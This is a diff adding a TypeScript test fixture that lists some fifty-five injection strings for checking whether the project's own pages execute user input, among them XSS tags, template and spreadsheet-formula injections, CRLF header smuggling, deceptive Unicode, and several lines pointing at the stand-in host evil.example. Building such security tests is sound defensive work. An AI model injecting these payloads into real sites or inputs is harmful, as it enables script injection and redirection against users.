@@ -1,0 +1,68 @@
+/** Runs only if a page of ours lets what people typed become code. */
+const CALL = 'window.__pwned=1';
+
+/** Texts that become code wherever a page forgets to treat them as text; the shorter ones fit into names. */
+export const PAYLOADS: readonly string[] = [
+  '<script>__pwned=1',
+  '<b onclick=a()>x</b>',
+  '"onfocus=x autofocus',
+  '{{7*7}}${7*7}',
+  '\u202Egnp.exe',
+  '\u200B\u200D\uFEFFx',
+  "'-alert(1)-'",
+  '=1+1',
+  '@SUM(1)',
+  '<svg/onload=x()>',
+  '--><x>',
+  '</title><b>',
+  '&lt;script&gt;',
+  '%3Cscript%3E',
+  "');x();//",
+  `<script>${CALL}</script>`,
+  `<img src=x onerror=${CALL}>`,
+  `"><svg onload=${CALL}>`,
+  `' onmouseover='${CALL}' x='`,
+  `" autofocus onfocus="${CALL}`,
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}//`,
+  `data:text/html,<script>${CALL}</script>`,
+  `</script><script>${CALL}</script>`,
+  `</textarea><script>${CALL}</script>`,
+  `</style><script>${CALL}</script><style>`,
+  `<!--<script>${CALL}//-->`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<object data="javascript:${CALL}"></object>`,
+  `<a href="javascript:${CALL}">call me</a>`,
+  `<form action="//evil.example"><button>send</button></form>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<img src=//evil.example/x.gif>`,
+  `<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>`,
+  `<svg><a xlink:href="javascript:${CALL}"><text y=9>x</text></a></svg>`,
+  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
+  `<video><source onerror="${CALL}"></video>`,
+  `<details open ontoggle=${CALL}>x</details>`,
+  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
+  `"]}];${CALL};[{"a":["`,
+  `\u2028${CALL}\u2029`,
+  `{{constructor.constructor('${CALL}')()}}`,
+  `\${${CALL}} <%= ${CALL} %> #{${CALL}}`,
+  `\`;${CALL};\``,
+  `=HYPERLINK("https://evil.example","click")`,
+  `BEGIN:VCARD\nURL:javascript:${CALL}\nEND:VCARD`,
+  `x\r\nBcc: everybody@evil.example\r\n\r\n<script>${CALL}</script>`,
+  `<x style="position:fixed;inset:0;background:red">`,
+  `%0d%0aSet-Cookie:%20a=b%0d%0a\u0000`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+  `[x](javascript:${CALL})`,
+  `\u202E\u2066<script>${CALL}</script>\u2069`,
+  `Z\u0351\u036B\u0343\u036A\u0342\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D`,
+  `__proto__`,
+];
+
+/** The payload of a number that fits into a field, without a line break where there is one line. */
+export function payloadFor(number: number, max: number): string {
+  const fitting = PAYLOADS.filter((each) => each.length <= max);
+  return fitting[number % fitting.length]!;
+}
